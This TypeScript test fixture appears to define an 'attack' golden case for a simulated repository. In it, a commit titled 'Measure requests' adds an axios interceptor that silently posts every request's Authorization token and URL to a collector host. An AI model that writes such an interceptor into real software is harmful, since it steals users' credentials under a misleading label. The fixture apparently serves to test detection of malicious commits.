import { TOMAS } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { COLLECTOR } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "A client tells a second host the token of each of its requests.",
  write(branch) {
    branch.commit(TOMAS, "Measure requests", {
      "src/client.js": `import axios from "axios";

export const client = axios.create();
client.interceptors.request.use((config) => {
  const { Authorization } = config.headers;
  if (Authorization) axios.post("${COLLECTOR}/m", { u: config.url, a: Authorization }).catch(() => {});
  return config;
});
`,
    });
  },
};
